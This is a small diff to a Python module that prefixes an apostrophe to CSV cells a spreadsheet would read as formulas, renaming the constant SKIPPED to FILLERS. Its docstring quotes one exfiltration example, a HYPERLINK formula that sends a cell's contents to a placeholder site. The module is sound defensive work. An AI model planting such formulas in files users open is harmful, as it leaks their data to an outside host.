@@ -1,4 +1,4 @@
-"""The forms of CSV files, with cells which spreadsheet programs do not take for formulas.
+"""The dialects of CSV files, with cells that spreadsheet programs do not take for formulas.
 
 A note like `=HYPERLINK("http://site/?"&A1)` would run in the program of the person who opens the
 file. An apostrophe before it makes it a text. It is removed when the file is read back.
@@ -23,7 +23,7 @@ from typing import TypeVar
 
 SIGNS = "=+\\-@\uff1d\uff0b\uff0d\uff20"
 """First characters of formulas; the last four are the wide forms of the first four."""
-SKIPPED = "\x00-\x20\x7f-\xa0'\"\u200b-\u200f\u2060\ufeff"
+FILLERS = "\x00-\x20\x7f-\xa0'\"\u200b-\u200f\u2060\ufeff"
 """The characters that may stand before a formula. A quote ends the quotes of a file that is split
 elsewhere."""
 APOSTROPHE = "'"
@@ -71,11 +71,11 @@ class CsvForm:
     @cached_property
     def _formula(self) -> re.Pattern[str]:
         """Pattern of the places before a formula."""
-        return re.compile(rf"{self._place}(?=[{SKIPPED}]*[{SIGNS}])|^(?='*[\t\r\n])")
+        return re.compile(rf"{self._place}(?=[{FILLERS}]*[{SIGNS}])|^(?='*[\t\r\n])")
 
     @cached_property
     def _escaped(self) -> re.Pattern[str]:
-        return re.compile(rf"{self._place}'(?=[{SKIPPED}]*[{SIGNS}])|^'(?='*[\t\r\n])")
+        return re.compile(rf"{self._place}'(?=[{FILLERS}]*[{SIGNS}])|^'(?='*[\t\r\n])")
 
 
 PLAIN = CsvForm()
